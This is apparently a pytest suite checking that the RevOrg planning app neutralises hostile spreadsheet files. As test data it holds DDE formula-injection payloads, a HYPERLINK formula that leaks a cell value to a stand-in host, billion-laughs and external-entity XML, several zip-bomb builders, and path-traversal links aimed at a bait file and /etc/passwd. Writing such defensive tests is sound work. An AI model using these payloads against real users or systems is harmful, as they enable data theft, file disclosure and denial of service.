"""Hostile content: formula injection on export, XML entity bombs (and external entities),
zip bombs, and files that try to make RevOrg read or write somewhere else.

- Text a user typed that starts with =, +, - or @ (also after a tab, a line break or a space)
  is written as a text cell, never a formula, and the importer reads it back as text.
- openpyxl parses through defusedxml; a billion-laughs or external-entity workbook is refused
  wherever the DTD hides (a sheet, the workbook part, the custom properties, a part without
  an .xml name, a DTD that straddles the scanner's 1 MiB read boundary).
- Zip bombs are refused from the central directory or by their ratio, and a directory that
  lies about sizes, or many entries that share one compressed body, do not get through.
- Nothing in an imported file (paths in cells, external links, defined names that point at
  other files, hyperlinks, relationships that climb out of the package, external entities)
  makes RevOrg open another file, and an export writes only the requested file (openpyxl's
  own temporary files, in the temporary folder, are removed). Checked in a child process with
  Python audit hooks, and with strace when it is installed.
"""

from __future__ import annotations

import io
import json
import os
import re
import resource
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest

from revorg.io.importers import import_plan
from revorg.io.report import ImportRefusedError
from revorg.io.xlsx_export import export_workbook
from revorg.model.document import PlanDocument
from revorg.model.entities import RoleType
from tests.adversarial.fuzzing import reproducible_export, rezip, zip_members
from tests.adversarial.limits import time_limit
from tests.conftest import REPO_ROOT

# --- formula injection ---------------------------------------------------------------------

DDE = "cmd|' /C calc'!A0"
PAYLOADS = [
    f"={DDE}",
    f"+{DDE}",
    f"-2+3+{DDE}",
    f"@SUM(1+1)*{DDE}",
    f"\t={DDE}",
    f"\r={DDE}",
    f"\r\n+{DDE}",
    f" -{DDE}",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "＝1+1",  # a full-width equals sign
    f"@{DDE}\n",
]
MARKERS = (DDE, "evil.example", "＝1+1")


def risky_plan() -> PlanDocument:
    """The demo with every payload as a title, a person's name and notes, and as the plan,
    scenario and a custom role's names."""
    document = PlanDocument.from_template("demo", 2027)
    positions = sorted(document.scenario().positions, key=lambda p: p.id)[1:]
    for position, payload in zip(positions, PAYLOADS, strict=False):
        position.title = payload
        position.person_name = payload
        position.notes = payload
    document.plan.name = PAYLOADS[0]
    document.scenario().name = PAYLOADS[1]
    document.session.add(
        RoleType(key="dde", department_key="sales", name_en=PAYLOADS[3], is_custom=True)
    )
    positions[-1].role_key = "dde"
    document.session.commit()
    return document


# A cell formula: <f>...</f> or <f t="shared" ...>...</f>, not <formula> nor <firstHeader>.
FORMULA_ELEMENT = re.compile(r"<f(?:\s[^>]*)?>(.*?)</f>", re.DOTALL)


def formulas_in_parts(path: Path) -> list[str]:
    """The text of every <f> (formula) element of every part, read from the zip itself."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", errors="replace")
            found += FORMULA_ELEMENT.findall(text)
    return found


def test_typed_text_is_exported_as_text_and_read_back_as_text(tmp_path: Path) -> None:
    path = tmp_path / "risky.xlsx"
    with risky_plan() as document:
        export_workbook(document, document.scenario(), path)
    book = openpyxl.load_workbook(path)
    text_cells: dict[str, list[str]] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(m in cell.value for m in MARKERS):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    text_cells.setdefault(cell.value, []).append(f"{sheet.title}!{cell.coordinate}")
    # Each payload is in the Org sheet three times (title, person, notes), as text. A plain
    # XML writer lets a carriage return be read back as a line feed ("\r" comes back as "\n");
    # with lxml installed (python-pptx brings it) openpyxl escapes it and it comes back as is.
    for payload in PAYLOADS:
        normalised = payload.replace("\r\n", "\n").replace("\r", "\n")
        cells = text_cells.get(payload, []) or text_cells.get(normalised, [])
        assert len([c for c in cells if c.startswith("Org!")]) >= 3, (payload, text_cells)
    assert not [f for f in formulas_in_parts(path) if any(m in f for m in MARKERS)]

    document, _report = import_plan(path, "demo", 2027)
    with document:
        positions = sorted(document.scenario().positions, key=lambda p: p.id)[1:]
        for position, payload in zip(positions, PAYLOADS, strict=False):
            # The importer trims the text of every cell: leading tabs and breaks go, the
            # payload stays text.
            assert position.title == payload.strip()
            assert position.person_name == payload.strip()
            assert position.notes == payload.strip()
        assert document.plan.name == PAYLOADS[0]
        assert document.scenario().name == PAYLOADS[1]


# --- XML bombs and defusedxml -----------------------------------------------------------------


def billion_laughs(root: str = "worksheet") -> bytes:
    entities = "".join(
        f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'
        for n in range(1, 10)
    )
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
        f"{entities}]>\n<{root} "
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        f"</sheetData></{root}>"
    ).encode()


def external_entity(target: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "{target}">]>\n'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


@pytest.fixture(scope="module")
def roster_members(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    path = tmp_path_factory.mktemp("roster") / "roster.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Name", "Title", "Manager"])
    book.active.append(["Ana", "CRO", None])
    book.active.append(["Luis", "AE", "Ana"])
    book.save(path)
    return zip_members(path.read_bytes())


@pytest.fixture(scope="module")
def export_members(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    path = reproducible_export(tmp_path_factory.mktemp("export") / "demo.xlsx")
    return zip_members(path.read_bytes())


def without_extension(members: dict[str, bytes], sheet: bytes) -> dict[str, bytes]:
    """The roster with its sheet stored as a part whose name has no .xml suffix."""
    changed = {k: v for k, v in members.items() if k != "xl/worksheets/sheet1.xml"}
    changed["xl/worksheets/sheet1"] = sheet
    changed["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"worksheets/sheet1.xml", b"worksheets/sheet1"
    )
    changed["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"/xl/worksheets/sheet1.xml", b"/xl/worksheets/sheet1"
    )
    return changed


def refused_quickly(path: Path) -> str:
    """Import `path`: it must be refused, not hang (the limit fails a hang, it measures no
    speed), and without a burst of memory."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with time_limit(20), pytest.raises(ImportRefusedError) as refused:
        import_plan(path, "demo", 2027)
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 200 * 1024 * (1024 if sys.platform == "darwin" else 1)  # 200 MB
    assert "\n" not in str(refused.value)
    return str(refused.value)


def test_defusedxml_guards_openpyxl() -> None:
    import defusedxml  # noqa: F401  (installed: a dependency of RevOrg)

    assert openpyxl.DEFUSEDXML is True


@pytest.mark.parametrize(
    "where",
    ["sheet", "workbook part", "custom properties", "export sheet", "part without .xml",
     "across a read boundary", "external entity", "external entity, no .xml"],
)  # fmt: skip
def test_xml_bombs_and_external_entities_are_refused(
    roster_members: dict[str, bytes],
    export_members: dict[str, bytes],
    tmp_path: Path,
    where: str,
) -> None:
    members = dict(roster_members)
    bait = tmp_path / "bait.txt"
    bait.write_text("secret")
    if where == "sheet":
        members["xl/worksheets/sheet1.xml"] = billion_laughs()
    elif where == "workbook part":
        members["xl/workbook.xml"] = billion_laughs("workbook")
    elif where == "custom properties":
        members = dict(export_members)
        members["docProps/custom.xml"] = billion_laughs("Properties")
    elif where == "export sheet":
        members = dict(export_members)
        members["xl/worksheets/sheet2.xml"] = billion_laughs()
    elif where == "part without .xml":
        members = without_extension(members, billion_laughs())
    elif where == "across a read boundary":
        # 1 MiB of padding less 4 bytes: "<!DOCTYPE" is cut by the scanner's chunk boundary.
        padding = b'<?xml version="1.0"?>' + b" " * (1024 * 1024 - 4 - 21)
        members["xl/worksheets/sheet1.xml"] = padding + billion_laughs().split(b"?>", 1)[1]
    elif where == "external entity":
        members["xl/worksheets/sheet1.xml"] = external_entity(bait.as_uri())
    else:
        members = without_extension(members, external_entity(bait.as_uri()))
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(rezip(members))
    message = refused_quickly(path)
    assert "secret" not in message


# --- zip bombs ------------------------------------------------------------------------------------


def zeros_member(archive: zipfile.ZipFile, name: str, megabytes: int) -> None:
    with archive.open(name, "w", force_zip64=True) as stream:
        block = bytes(1024 * 1024)
        for _ in range(megabytes):
            stream.write(block)


def test_a_zip_bomb_in_a_media_part_is_refused(
    roster_members: dict[str, bytes], tmp_path: Path
) -> None:
    path = tmp_path / "media-bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in roster_members.items():
            archive.writestr(name, content)
        zeros_member(archive, "xl/media/image1.png", 400)
    assert path.stat().st_size < 3 * 1024 * 1024
    assert "possible zip bomb" in refused_quickly(path)


def test_a_zip_whose_directory_understates_a_member_is_refused(
    roster_members: dict[str, bytes], tmp_path: Path
) -> None:
    """The central directory says 1 KB; the data inflates to 50 MB. zipfile stops at the
    declared size and the CRC does not match: refused, and only 1 KB was inflated."""
    path = tmp_path / "liar.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in roster_members.items():
            archive.writestr(name, content)
        archive.writestr("xl/media/image1.png", bytes(50 * 1024 * 1024))
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/media/image1.png")
    understated = (1024).to_bytes(4, "little")
    data[info.header_offset + 22 : info.header_offset + 26] = understated  # local header
    end = data.rindex(b"PK\x05\x06")
    directory = int.from_bytes(data[end + 16 : end + 20], "little")
    entry = data.index(b"PK\x01\x02", data.index(b"xl/media/image1.png", directory) - 46)
    data[entry + 24 : entry + 28] = understated  # central directory
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as archive:
        assert archive.getinfo("xl/media/image1.png").file_size == 1024
    assert "damaged" in refused_quickly(path)


def test_many_entries_sharing_one_compressed_body_are_refused(
    roster_members: dict[str, bytes], tmp_path: Path
) -> None:
    """An overlapping ("non-recursive") zip bomb: 300 directory entries point at the same
    1 MB of compressed zeros; the sizes they declare add up to 300 MB."""
    body = tmp_path / "body.zip"
    with zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in roster_members.items():
            archive.writestr(name, content)
        archive.writestr("xl/media/zeros.bin", bytes(1024 * 1024))
    data = body.read_bytes()
    end = data.rindex(b"PK\x05\x06")  # the end of central directory record
    directory_offset = int.from_bytes(data[end + 16 : end + 20], "little")
    directory = data[directory_offset:end]
    entries = directory.split(b"PK\x01\x02")[1:]
    zeros_entry = next(e for e in entries if b"xl/media/zeros.bin" in e)
    copies = [b"PK\x01\x02" + zeros_entry for _ in range(300)]
    new_directory = directory + b"".join(copies)
    count = len(entries) + 300
    end_record = bytearray(data[end:])
    end_record[8:10] = count.to_bytes(2, "little")
    end_record[10:12] = count.to_bytes(2, "little")
    end_record[12:16] = len(new_directory).to_bytes(4, "little")
    path = tmp_path / "overlap.xlsx"
    path.write_bytes(data[:directory_offset] + new_directory + bytes(end_record))
    with zipfile.ZipFile(path) as archive:
        assert len(archive.infolist()) == count
    assert "possible zip bomb" in refused_quickly(path)


# --- nothing else is read or written ------------------------------------------------------------

MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_external_link(
    members: dict[str, bytes], target: str, retarget: bool = False
) -> dict[str, bytes]:
    """Add an external workbook link to `target` and a defined name through it; with
    `retarget`, point the importer's own names (Leads, Goal) at it too."""
    members = dict(members)
    workbook = members["xl/workbook.xml"]
    reference = (
        f'<externalReferences><externalReference xmlns:r="{RELATIONSHIPS}" r:id="rIdBait"/>'
        "</externalReferences>"
    ).encode()
    workbook = workbook.replace(b"</sheets>", b"</sheets>" + reference, 1)
    name = b'<definedName name="BaitLink">[1]Sheet1!$A$1</definedName>'
    if b"<definedNames>" in workbook:
        workbook = workbook.replace(b"<definedNames>", b"<definedNames>" + name, 1)
        for defined in (b"Leads", b"Goal") if retarget else ():
            start = workbook.find(b'<definedName name="' + defined + b'"')
            if start >= 0:
                body = workbook.index(b">", start) + 1
                end = workbook.index(b"</definedName>", body)
                workbook = workbook[:body] + b"[1]Sheet1!$A$1" + workbook[end:]
    else:
        workbook = workbook.replace(reference, reference + b"<definedNames>" + name +
                                    b"</definedNames>", 1)  # fmt: skip
    members["xl/workbook.xml"] = workbook
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdBait" Type="{RELATIONSHIPS}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode(),
    )
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    members["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{MAIN.decode()}"><externalBook xmlns:r="{RELATIONSHIPS}" '
        'r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
        "</externalLink>"
    ).encode()
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/externalLinkPath" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    return members


def climbing_out(members: dict[str, bytes], bait: Path) -> dict[str, bytes]:
    """The sheet relationship pointed out of the package, at the bait file."""
    members = dict(members)
    climb = "../" * 12 + str(bait).lstrip("/")
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"/xl/worksheets/sheet1.xml", climb.encode()
    )
    members["_rels/.rels"] = members["_rels/.rels"].replace(
        b"xl/workbook.xml", ("../" * 12 + str(bait).lstrip("/")).encode()
    )
    return members


def hostile_files(folder: Path, bait: Path, export: Path) -> list[Path]:
    """Files that name `bait` in every way a workbook or a roster can."""
    references = [str(bait), os.path.relpath(bait, folder), bait.as_uri(), "/etc/passwd"]
    files = []
    roster = folder / "roster.csv"
    roster.write_text(
        "Name,Title,Manager,Department,Email,Notes\n"
        + "".join(
            f'"Person {i}","{r}",,"{r}","{r}","=HYPERLINK(""{r}"")"\n'
            for i, r in enumerate(references)
        ),
        encoding="utf-8",
    )
    files.append(roster)

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Name", "Title", "Manager", "Department", "Notes"])
    for row, reference in enumerate(references, 2):
        sheet.append([f"Person {row}", reference, None, reference, reference])
        sheet.cell(row, 1).hyperlink = bait.as_uri()
    sheet.append(["Formulas", "AE", None, "Sales", f"='{bait}'!A1"])
    sheet.append(["Links", "SDR", None, "=[1]Sheet1!A1", f'=HYPERLINK("{bait.as_uri()}")'])
    plain = folder / "plain-roster.xlsx"
    book.save(plain)
    members = zip_members(plain.read_bytes())
    linked = folder / "linked-roster.xlsx"
    linked.write_bytes(rezip(with_external_link(members, bait.as_uri())))
    files.append(linked)
    climbing = folder / "climbing-roster.xlsx"
    climbing.write_bytes(rezip(climbing_out(members, bait)))
    files.append(climbing)
    xxe = folder / "xxe-roster.xlsx"
    xxe.write_bytes(rezip({**members, "xl/worksheets/sheet1.xml": external_entity(bait.as_uri())}))
    files.append(xxe)

    book = openpyxl.load_workbook(export)
    for name, target in (("PlanName", f"'{bait}'!$A$1"), ("Currency", "[1]Sheet1!$A$1")):
        if name in book.defined_names:
            book.defined_names[name].attr_text = target
    org = book["Org"]
    for row in range(2, 6):
        org.cell(row, 16).value = references[row - 2]  # notes
    retargeted = folder / "retargeted-export.xlsx"
    book.save(retargeted)
    relinked = folder / "relinked-export.xlsx"
    relinked.write_bytes(
        rezip(with_external_link(zip_members(retargeted.read_bytes()), bait.as_uri(), True))
    )
    linked_export = folder / "linked-export.xlsx"
    linked_export.write_bytes(
        rezip(with_external_link(zip_members(export.read_bytes()), bait.as_uri()))
    )
    files += [retargeted, relinked, linked_export]
    return files


CHILD = """
import json, os, sys
from pathlib import Path

WATCHED = {"open", "os.rename", "os.remove", "os.rmdir", "os.mkdir", "os.symlink", "os.link",
           "os.truncate", "os.chmod", "shutil.copyfile", "shutil.rmtree", "sqlite3.connect",
           "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "socket.connect",
           "urllib.Request"}
events = []

def audit(event, arguments):
    if event in WATCHED:
        events.append([event, [str(a) for a in arguments[:3]]])

from revorg.io.importers import import_plan
from revorg.io.report import ImportRefusedError
from revorg.io.xlsx_export import export_workbook

out = Path(sys.argv[1])
sys.addaudithook(audit)
outcomes = {}
for index, name in enumerate(sys.argv[2:]):
    try:
        document, report = import_plan(Path(name), "demo", 2027)
    except ImportRefusedError as refused:
        outcomes[name] = "refused: " + str(refused)
        continue
    with document:
        document.save_as(out / f"imported-{index}.revorg")
        export_workbook(document, document.scenario(), out / f"exported-{index}.xlsx")
    outcomes[name] = "plan"
print(json.dumps({"outcomes": outcomes, "events": events}))
"""

WRITE_FLAGS = ("O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC", "O_APPEND")


def traced_paths(trace: Path) -> list[tuple[str, str]]:
    """(system call line, first quoted path) of every file system call strace saw."""
    calls = []
    for line in trace.read_text(errors="replace").splitlines():
        if '"' in line:
            calls.append((line, line.split('"')[1]))
    return calls


def test_nothing_in_a_file_makes_revorg_read_or_write_elsewhere(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    bait = secret / "bait-passwd"
    bait.write_text("root:x:0:0:secret\n")
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    export = reproducible_export(tmp_path / "demo.xlsx")
    files = hostile_files(inputs, bait, export)
    out = tmp_path / "out"
    out.mkdir()
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    trace = tmp_path / "trace.txt"
    command = [sys.executable, "-c", CHILD, str(out), *map(str, files)]
    strace = shutil.which("strace")
    if strace is not None and sys.platform.startswith("linux"):
        command = [strace, "-f", "-qq", "-e", "trace=%file", "-o", str(trace), *command]
    environment = dict(os.environ, TMPDIR=str(temporary), PYTHONDONTWRITEBYTECODE="1")
    completed = subprocess.run(
        command, cwd=REPO_ROOT, capture_output=True, text=True, timeout=120, env=environment,
        check=False,
    )  # fmt: skip
    assert completed.returncode == 0, completed.stderr
    report = json.loads(completed.stdout.splitlines()[-1])
    assert set(report["outcomes"]) == {str(f) for f in files}
    assert any(outcome == "plan" for outcome in report["outcomes"].values()), report["outcomes"]

    allowed = [str(out), str(temporary)]
    for event, arguments in report["events"]:
        path = arguments[0] if arguments else ""
        assert "bait" not in " ".join(arguments) and "passwd" not in path, (event, arguments)
        if event == "open" and len(arguments) > 1 and any(c in arguments[1] for c in "wax+"):
            assert path.startswith(tuple(allowed)), (event, arguments)
        if event == "sqlite3.connect":
            assert path == ":memory:" or path.startswith(str(out)), (event, arguments)
        if event in ("os.rename", "os.remove", "os.mkdir", "os.truncate", "os.chmod"):
            assert path.startswith(tuple(allowed)), (event, arguments)
        assert event not in ("subprocess.Popen", "os.system", "socket.connect"), event

    if trace.exists():
        calls = traced_paths(trace)
        assert calls, "strace saw no file system call"
        assert not [c for c, p in calls if "bait" in c or p == "/etc/passwd"], "bait touched"
        writes = [
            path
            for call, path in calls
            if "= -1" not in call
            and (any(flag in call for flag in WRITE_FLAGS) or " rename" in call
                 or "unlink(" in call or "mkdir(" in call)
        ]  # fmt: skip
        assert writes, "strace saw no write"
        assert [p for p in writes if not p.startswith(tuple(allowed))] == []

    assert bait.read_text() == "root:x:0:0:secret\n"
    assert sorted(p.name for p in temporary.iterdir()) == []  # openpyxl cleaned up
    written = sorted(p.name for p in out.iterdir())
    assert written, "no plan was imported"
    assert all(n.startswith(("imported-", "exported-")) for n in written), written
    assert all(n.endswith((".revorg", ".xlsx")) for n in written), written


def test_an_export_writes_only_the_requested_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    out = tmp_path / "out"
    out.mkdir()
    (out / "other.txt").write_text("untouched")
    with PlanDocument.from_template("demo", 2027) as document:
        export_workbook(document, document.scenario(), out / "plan.xlsx")
        first = (out / "plan.xlsx").read_bytes()
        export_workbook(document, document.scenario(), out / "plan.xlsx")  # over itself
    assert sorted(p.name for p in out.iterdir()) == ["other.txt", "plan.xlsx"]
    assert (out / "other.txt").read_text() == "untouched"
    assert list(temporary.iterdir()) == []
    assert zipfile.ZipFile(io.BytesIO(first)).testzip() is None
